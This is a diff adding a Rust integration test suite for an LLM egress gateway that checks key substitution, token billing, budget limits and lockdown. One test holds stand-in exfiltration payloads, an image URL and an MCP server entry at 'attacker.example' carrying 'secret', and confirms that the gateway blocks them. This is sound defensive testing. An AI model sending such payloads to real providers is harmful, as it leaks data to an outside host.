@@ -1,0 +1,389 @@
+//! The model gateway before a scripted provider: what reaches it, what it is told, and who pays.
+
+use std::io::{BufRead as _, BufReader, Read as _, Write as _};
+use std::net::{SocketAddr, TcpListener, TcpStream};
+use std::os::unix::net::UnixListener;
+use std::sync::{Arc, Mutex};
+use std::time::{Duration, Instant};
+
+use nucleus::Monitor;
+use nucleus::monitor::SessionOptions;
+use nucleus_audit::{Log, LogOptions, SigningKey};
+use nucleus_egress::gateway::{Gateway, ModelKey, Prices, SessionAccount, Upstream};
+use portcullis::envelope::{Envelope, EnvelopeParts};
+use portcullis::{Amount, SessionId};
+use serde_json::{Value, json};
+use tempfile::TempDir;
+
+const KEY: &str = "sk-canary-0123456789abcdef";
+/// A price list under which a token of each kind costs a micro-dollar.
+const PRICES: &str = "version = 1\nas_of = 'test'\n[[price]]\nmodel = 'm'\ninput = 1000\noutput = 1000\nmax_output = 100\n";
+
+/// One request as the provider saw it.
+#[derive(Clone, Debug)]
+struct Seen {
+    head: String,
+    body: String,
+}
+
+/// What the provider answers to every call.
+#[derive(Clone, Copy)]
+enum Script {
+    /// A whole answer that reports this usage.
+    Whole(u64, u64),
+    /// A stream that reports this usage and ends.
+    Stream(u64, u64),
+    /// A stream that breaks off before it ends.
+    Dies,
+    /// An error.
+    Error,
+}
+
+/// A session with its gateway, before a provider that plays a script.
+struct Scene {
+    port: SocketAddr,
+    monitor: Arc<Monitor>,
+    seen: Arc<Mutex<Vec<Seen>>>,
+    dir: TempDir,
+    _runtime: tokio::runtime::Runtime,
+}
+
+impl Scene {
+    fn new(script: Script, maximum: Amount) -> Self {
+        let dir = tempfile::tempdir().unwrap();
+        let id = SessionId::from_bytes([7; 16]);
+        let key = SigningKey::from_seed(&[1; 32]);
+        let log = Log::create(&dir.path().join("log"), id, LogOptions::default(), key).unwrap();
+        let parts = EnvelopeParts {
+            maximum,
+            ..EnvelopeParts::everything()
+        };
+        let monitor =
+            Monitor::open(SessionOptions::new(Envelope::new(parts), "tester", id, log)).unwrap();
+        let socket = dir.path().join("provider");
+        let provider = UnixListener::bind(&socket).unwrap();
+        let seen = Arc::new(Mutex::new(Vec::new()));
+        let told = Arc::clone(&seen);
+        std::thread::spawn(move || provide(&provider, script, &told));
+        let prices = Prices::shipped().unwrap().with("test", PRICES).unwrap();
+        let account = Arc::new(SessionAccount::of(&monitor));
+        let key = ModelKey::new("authorization", KEY).unwrap();
+        let gateway = Gateway::new(Upstream::Socket(socket), Some(key), prices, account);
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = listener.local_addr().unwrap();
+        let runtime = tokio::runtime::Builder::new_multi_thread()
+            .worker_threads(2)
+            .enable_all()
+            .build()
+            .unwrap();
+        runtime.spawn(gateway.serve(listener));
+        Self {
+            port,
+            monitor,
+            seen,
+            dir,
+            _runtime: runtime,
+        }
+    }
+
+    fn open(&self, head: &str, body: &str) -> TcpStream {
+        let mut stream = TcpStream::connect(self.port).unwrap();
+        stream
+            .set_read_timeout(Some(Duration::from_secs(60)))
+            .unwrap();
+        let request = format!(
+            "{head} HTTP/1.1\r\nhost: model\r\nauthorization: Bearer own-key\r\nx-own: secret\r\nconnection: close\r\ncontent-length: {}\r\n\r\n{body}",
+            body.len()
+        );
+        stream.write_all(request.as_bytes()).unwrap();
+        stream
+    }
+
+    /// Status and body of the answer.
+    fn call(&self, head: &str, body: &Value) -> (u16, String) {
+        let mut text = String::new();
+        self.open(head, &body.to_string())
+            .read_to_string(&mut text)
+            .unwrap();
+        let status = text.split(' ').nth(1).unwrap().parse().unwrap();
+        (status, text.split_once("\r\n\r\n").unwrap().1.to_owned())
+    }
+
+    fn chat(&self, body: &Value) -> (u16, String) {
+        self.call("POST /v1/chat/completions", body)
+    }
+
+    fn spent(&self) -> Amount {
+        self.monitor
+            .envelope()
+            .maximum()
+            .checked_sub(self.monitor.budget().remaining())
+            .unwrap()
+    }
+
+    /// Waits until what was spent is this: a client that leaves is noticed a little later.
+    fn wait_until_spent(&self, wanted: impl Fn(Amount) -> bool) {
+        let patience = Instant::now() + Duration::from_secs(30);
+        while !wanted(self.spent()) {
+            assert!(Instant::now() < patience, "{:?}", self.spent());
+            std::thread::sleep(Duration::from_millis(5));
+        }
+    }
+
+    fn seen(&self) -> Vec<Seen> {
+        self.seen.lock().unwrap().clone()
+    }
+
+    fn log(&self) -> String {
+        std::fs::read_to_string(self.dir.path().join("log/audit-0000.jsonl")).unwrap()
+    }
+}
+
+fn provide(listener: &UnixListener, script: Script, seen: &Arc<Mutex<Vec<Seen>>>) {
+    for stream in listener.incoming() {
+        let (mut stream, seen) = (stream.unwrap(), Arc::clone(seen));
+        std::thread::spawn(move || {
+            let mut reader = BufReader::new(stream.try_clone().unwrap());
+            let mut head = String::new();
+            while reader.read_line(&mut head).unwrap() > 2 {}
+            let length = head.lines().find_map(|line| {
+                line.to_ascii_lowercase()
+                    .strip_prefix("content-length: ")?
+                    .parse()
+                    .ok()
+            });
+            let mut body = vec![0; length.unwrap_or(0)];
+            reader.read_exact(&mut body).unwrap();
+            seen.lock().unwrap().push(Seen {
+                head,
+                body: String::from_utf8(body).unwrap(),
+            });
+            let _ = stream.write_all(&played(script));
+        });
+    }
+}
+
+fn played(script: Script) -> Vec<u8> {
+    let usage =
+        |input: u64, output: u64| json!({"prompt_tokens": input, "completion_tokens": output});
+    let chunk = |value: &Value| format!("data: {value}\n\n");
+    let first = chunk(
+        &json!({"object": "chat.completion.chunk", "choices": [{"delta": {"content": "hi"}}]}),
+    );
+    let whole = |status: &str, kind: &str, body: &str| {
+        format!("HTTP/1.1 {status}\r\ncontent-type: {kind}\r\nx-internal: org-1\r\ncontent-length: {}\r\n\r\n{body}", body.len()).into_bytes()
+    };
+    match script {
+        Script::Whole(input, output) => {
+            let body = json!({"object": "chat.completion", "choices": [{}], "usage": usage(input, output)}).to_string();
+            whole("200 OK", "application/json", &body)
+        }
+        Script::Stream(input, output) => {
+            let last = chunk(&json!({"object": "chat.completion.chunk", "choices": [], "usage": usage(input, output)}));
+            whole("200 OK", "text/event-stream", &format!("{first}{last}data: [DONE]\n\n"))
+        }
+        Script::Dies => format!("HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\ncontent-length: 99999\r\n\r\n{first}").into_bytes(),
+        Script::Error => whole("429 Too Many Requests", "application/json", "{\"error\":{\"message\":\"slow down\"}}"),
+    }
+}
+
+fn amount(micro_usd: u64, input_tokens: u64, output_tokens: u64) -> Amount {
+    Amount {
+        micro_usd,
+        input_tokens,
+        output_tokens,
+    }
+}
+
+fn hello(more: &[(&str, Value)]) -> Value {
+    let mut body =
+        json!({"model": "m", "messages": [{"role": "user", "content": "hello"}], "max_tokens": 10});
+    for (key, value) in more {
+        body[*key] = value.clone();
+    }
+    body
+}
+
+const PLENTY: u64 = 1_000_000;
+
+#[test]
+fn a_call_is_made_with_our_key_and_paid_by_what_was_used() {
+    let scene = Scene::new(Script::Whole(30, 4), amount(PLENTY, PLENTY, PLENTY));
+    let (status, body) = scene.chat(&hello(&[("user", json!("somebody"))]));
+    assert_eq!(status, 200, "{body}");
+    scene.wait_until_spent(|spent| spent == amount(34, 30, 4));
+    let seen = scene.seen();
+    assert!(
+        seen[0]
+            .head
+            .contains(&format!("authorization: Bearer {KEY}"))
+    );
+    assert!(
+        !seen[0].head.contains("own-key")
+            && !seen[0].head.contains("x-own")
+            && !seen[0].body.contains("somebody")
+    );
+    assert_eq!(
+        serde_json::from_str::<Value>(&seen[0].body).unwrap()["max_tokens"],
+        10
+    );
+    let log = scene.log();
+    assert!(
+        log.contains("model call passed: POST /v1/chat/completions, model m")
+            && log.contains("34 micro-dollars"),
+        "{log}"
+    );
+    assert!(!log.contains(KEY));
+}
+
+#[test]
+fn a_stream_is_paid_by_what_it_reports_and_hides_what_was_not_asked_for() {
+    let scene = Scene::new(Script::Stream(30, 4), amount(PLENTY, PLENTY, PLENTY));
+    let (_, body) = scene.chat(&hello(&[("stream", json!(true))]));
+    assert!(
+        body.contains("\"hi\"") && body.contains("[DONE]") && !body.contains("prompt_tokens"),
+        "{body}"
+    );
+    scene.wait_until_spent(|spent| spent == amount(34, 30, 4));
+    assert_eq!(
+        serde_json::from_str::<Value>(&scene.seen()[0].body).unwrap()["stream_options"]["include_usage"],
+        true
+    );
+    let asked = hello(&[
+        ("stream", json!(true)),
+        ("stream_options", json!({"include_usage": true})),
+    ]);
+    assert!(
+        scene.chat(&asked).1.contains("prompt_tokens"),
+        "the allow twin"
+    );
+}
+
+#[test]
+fn a_stream_that_dies_costs_its_reservation() {
+    let scene = Scene::new(Script::Dies, amount(PLENTY, PLENTY, PLENTY));
+    let mut text = String::new();
+    let _ = scene
+        .open(
+            "POST /v1/chat/completions",
+            &hello(&[("stream", json!(true))]).to_string(),
+        )
+        .read_to_string(&mut text);
+    scene.wait_until_spent(|spent| spent.output_tokens == 10 && spent.input_tokens > 1000);
+    assert!(scene.log().contains("model call passed"));
+}
+
+#[test]
+fn an_error_of_the_provider_costs_nothing_and_is_passed_back() {
+    let scene = Scene::new(Script::Error, amount(PLENTY, PLENTY, PLENTY));
+    let (status, body) = scene.chat(&hello(&[]));
+    assert!(status == 429 && body.contains("slow down"), "{body}");
+    scene.wait_until_spent(|spent| spent == Amount::ZERO);
+}
+
+#[test]
+fn the_call_that_would_overrun_is_the_first_that_is_not_made() {
+    // Each call reports exactly what it may return; the third no longer fits.
+    let scene = Scene::new(Script::Whole(0, 10), amount(PLENTY, PLENTY, 25));
+    for _ in 0..2 {
+        assert_eq!(scene.chat(&hello(&[])).0, 200);
+        let before = scene.seen().len() as u64;
+        scene.wait_until_spent(|spent| spent.output_tokens == 10 * before);
+    }
+    let (status, body) = scene.chat(&hello(&[]));
+    assert!(
+        status == 402
+            && body.contains("5 output tokens are left")
+            && body.contains("nucleus_refused"),
+        "{body}"
+    );
+    assert_eq!(scene.seen().len(), 2, "nothing reached the provider unpaid");
+    assert_eq!(
+        scene.chat(&hello(&[("max_tokens", json!(5))])).0,
+        200,
+        "the allow twin: a smaller call fits"
+    );
+}
+
+#[test]
+fn many_calls_at_once_never_overspend() {
+    let scene = Scene::new(Script::Whole(0, 10), amount(PLENTY, PLENTY, 100));
+    let passed: usize = std::thread::scope(|scope| {
+        let threads: Vec<_> = (0..32)
+            .map(|_| scope.spawn(|| scene.chat(&hello(&[])).0))
+            .collect();
+        threads
+            .into_iter()
+            .filter(|_| true)
+            .map(|thread| usize::from(thread.join().unwrap() == 200))
+            .sum()
+    });
+    scene.wait_until_spent(|spent| spent.output_tokens == 10 * passed as u64);
+    assert_eq!(passed, 10, "exactly as many as the budget covers");
+    assert_eq!(scene.seen().len(), 10);
+}
+
+#[test]
+fn what_makes_the_provider_a_courier_never_reaches_it() {
+    let scene = Scene::new(Script::Whole(1, 1), amount(PLENTY, PLENTY, PLENTY));
+    let image = json!([{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "https://attacker.example/?q=secret"}}]}]);
+    let (status, body) = scene.chat(&hello(&[("messages", image)]));
+    assert!(
+        status == 403 && body.contains("messages[0].content[0].image_url.url"),
+        "{body}"
+    );
+    let claude = json!({"model": "m", "max_tokens": 5, "messages": [], "mcp_servers": [{"url": "https://attacker.example"}]});
+    let (status, body) = scene.call("POST /v1/messages", &claude);
+    assert!(
+        status == 403 && body.contains("\"type\":\"error\"") && body.contains("mcp_servers"),
+        "{body}"
+    );
+    let gemini = json!({"contents": [], "cachedContent": "c"});
+    let (status, body) = scene.call("POST /v1beta/models/m:generateContent", &gemini);
+    assert!(
+        status == 403 && body.contains("PERMISSION_DENIED"),
+        "{body}"
+    );
+    for route in [
+        "POST /v1/files",
+        "POST /v1/batches",
+        "GET /v1/responses/r",
+        "POST /v1/chat/completions?x=1",
+    ] {
+        assert_eq!(scene.call(route, &json!({})).0, 403, "{route}");
+    }
+    assert_eq!(scene.seen().len(), 0);
+    assert_eq!(scene.spent(), Amount::ZERO);
+    assert_eq!(scene.log().matches("model call refused").count(), 7);
+    assert_eq!(scene.chat(&hello(&[])).0, 200, "the allow twin");
+}
+
+#[test]
+fn a_model_without_a_price_is_not_called() {
+    let scene = Scene::new(Script::Whole(1, 1), amount(PLENTY, PLENTY, PLENTY));
+    let (status, body) = scene.chat(&hello(&[("model", json!("mystery"))]));
+    assert!(status == 403 && body.contains("prices.toml"), "{body}");
+    assert_eq!(scene.seen().len(), 0);
+}
+
+#[test]
+fn a_session_that_is_over_calls_nothing() {
+    let scene = Scene::new(Script::Whole(1, 1), amount(PLENTY, PLENTY, PLENTY));
+    assert_eq!(scene.chat(&hello(&[])).0, 200, "the allow twin");
+    scene.monitor.lockdown("test").unwrap();
+    assert_eq!(scene.chat(&hello(&[])).0, 503);
+    assert_eq!(scene.seen().len(), 1);
+}
+
+#[test]
+fn a_provider_that_hides_its_cost_is_not_believed() {
+    // More than was reserved: everything left of that kind goes, and the session is locked down.
+    let scene = Scene::new(Script::Whole(0, 5000), amount(PLENTY, PLENTY, 6000));
+    assert_eq!(scene.chat(&hello(&[])).0, 200);
+    scene.wait_until_spent(|spent| spent.output_tokens == 5000);
+    let patience = Instant::now() + Duration::from_secs(30);
+    while scene.monitor.is_active() {
+        assert!(Instant::now() < patience);
+        std::thread::sleep(Duration::from_millis(5));
+    }
+}
